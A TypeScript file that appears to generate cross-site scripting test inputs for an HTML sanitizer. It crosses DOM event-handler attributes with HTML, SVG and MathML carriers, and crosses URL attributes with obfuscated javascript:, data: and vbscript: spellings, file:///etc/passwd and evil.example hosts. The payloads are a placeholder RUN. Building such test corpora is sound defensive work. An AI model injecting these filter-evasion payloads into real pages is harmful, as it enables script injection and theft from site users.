/** Every event that HTML, SVG or the window's own element names (the HTML standard, UI and pointer events, SVG 2, CSS animations). */
const events = [
  'abort', 'afterprint', 'animationcancel', 'animationend', 'animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforecut', 'beforeinput', 'beforematch', 'beforepaste', 'beforeprint', 'beforetoggle', 'beforeunload', 'begin', 'blur', 'cancel', 'canplay', 'canplaythrough', 'change', 'click',
  'close', 'command', 'contentvisibilityautostatechange', 'contextlost', 'contextmenu', 'contextrestored', 'copy', 'cuechange', 'cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop', 'durationchange', 'emptied', 'end', 'ended', 'error', 'focus', 'focusin',
  'focusout', 'formdata', 'fullscreenchange', 'fullscreenerror', 'gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'keypress', 'keyup', 'languagechange', 'load', 'loadeddata', 'loadedmetadata', 'loadend', 'loadstart', 'lostpointercapture', 'message', 'messageerror', 'mousedown',
  'mouseenter', 'mouseleave', 'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'offline', 'online', 'pagehide', 'pagereveal', 'pageshow', 'pageswap', 'paste', 'pause', 'play', 'playing', 'pointercancel', 'pointerdown', 'pointerenter', 'pointerleave', 'pointermove', 'pointerout',
  'pointerover', 'pointerrawupdate', 'pointerup', 'popstate', 'progress', 'ratechange', 'rejectionhandled', 'repeat', 'reset', 'resize', 'scroll', 'scrollend', 'scrollsnapchange', 'scrollsnapchanging', 'search', 'securitypolicyviolation', 'seeked', 'seeking', 'select', 'selectionchange', 'selectstart',
  'slotchange', 'stalled', 'storage', 'submit', 'suspend', 'timeupdate', 'toggle', 'touchcancel', 'touchend', 'touchmove', 'touchstart', 'transitioncancel', 'transitionend', 'transitionrun', 'transitionstart', 'unhandledrejection', 'unload', 'volumechange', 'waiting',
  'webkitanimationend', 'webkitanimationiteration', 'webkitanimationstart', 'webkitfullscreenchange', 'webkittransitionend', 'wheel',
]

/** Allowed and other elements of HTML, of SVG and of MathML, and one that nobody knows; each with other quotes. */
const carriers: readonly ((handler: string) => string)[] = [
  (on) => `<p ${on}=RUN>x</p>`,
  (on) => `<a href="https://x.example" ${on}="RUN">x</a>`,
  (on) => `<table><tr><td ${on}='RUN'>x</td></tr></table>`,
  (on) => `<x-y tabindex=1 ${on}=RUN autofocus>x</x-y>`,
  (on) => `<svg><a ${on}="RUN"><text>x</text></a></svg>`,
  (on) => `<math><mi ${on.toUpperCase()}=RUN>x</mi></math>`,
  (on) => `<img src=x\n${on}=RUN>`,
  (on) => `<input/${on}=RUN>`,
]
const handled = events.flatMap((event) => carriers.map((carrier) => carrier(`on${event}`)))

const addresses: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`, (to) => `<area href="${to}">`, (to) => `<iframe src="${to}"></iframe>`, (to) => `<embed src="${to}">`, (to) => `<object data="${to}"></object>`, (to) => `<form action="${to}"><button>x</button></form>`, (to) => `<form><button formaction="${to}">x</button></form>`, (to) => `<img src="${to}">`, (to) => `<img srcset="${to} 2x">`, (to) => `<video poster="${to}" src="${to}"></video>`, (to) => `<source src="${to}">`,
  (to) => `<link rel=stylesheet href="${to}">`, (to) => `<base href="${to}">`, (to) => `<meta http-equiv=refresh content="0;url=${to}">`, (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`, (to) => `<svg><a href="${to}"><text>x</text></a></svg>`, (to) => `<svg><use href="${to}#x" /></svg>`, (to) => `<math><mi href="${to}" xlink:href="${to}">x</mi></math>`, (to) => `<blockquote cite="${to}">x</blockquote>`, (to) => `<table background="${to}"><td background="${to}">x</td></table>`, (to) => `<script src="${to}"></script>`, (to) => `<svg><script href="${to}"></script></svg>`, (to) => `<p style="background:url('${to}')">x</p>`, (to) => `<html manifest="${to}"><p>x</p>`,
]

const script = 'javascript:RUN'
/** One address, told in ways that browsers have read, or read, as the same. */
const spellings = [
  script, 'JavaScript:RUN', ' javascript:RUN', '\tjavascript:RUN', '\u0001\u001fjavascript:RUN', 'java&#9;script:RUN', 'java&#10;script:RUN', 'java&NewLine;script:RUN', 'java\rscript:RUN', 'javascript&colon;RUN', 'javascript&#58;RUN', 'javascript&#x3a;RUN', '&#106;&#97;&#118;&#97;script:RUN', '&#0000106avascript:RUN', '&#x6a;avascript:RUN', 'javascript\t:RUN', 'javascript:&#x2f;&#x2f;&#10;RUN', 'java\u0000script:RUN', '\u00a0javascript:RUN', '\u200bjavascript:RUN', 'javascript:%52UN;RUN',
  'data:text/html,<script>parent.RUN</script>', 'data:text/html;charset=utf-8,%3Csvg onload=RUN%3E', 'DATA:TEXT/HTML,<img src=x onerror=RUN>', 'data:text/javascript,RUN', 'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>', 'data:application/xhtml+xml,<x:script xmlns:x=%22http://www.w3.org/1999/xhtml%22>RUN</x:script>', 'data:,RUN',
  'vbscript:RUN', 'VbScript:RUN', 'livescript:RUN', 'mocha:RUN', 'blob:https://evil.example/RUN', 'filesystem:https://evil.example/RUN', 'file:///etc/passwd?RUN', 'ftp://evil.example/RUN', 'about:blank#RUN', 'chrome://settings/RUN', 'https://ansh.in@evil.example/RUN', '//evil.example/RUN', '\\\\evil.example\\RUN', 'https:evil.example/RUN', '/\\evil.example/RUN', 'tel:RUN', 'sms:RUN', 'intent:RUN', 'ws://evil.example/RUN',
]
const addressed = addresses.flatMap((carrier) => spellings.map((spelling) => carrier(spelling)))

export const products: readonly string[] = [...handled, ...addressed]
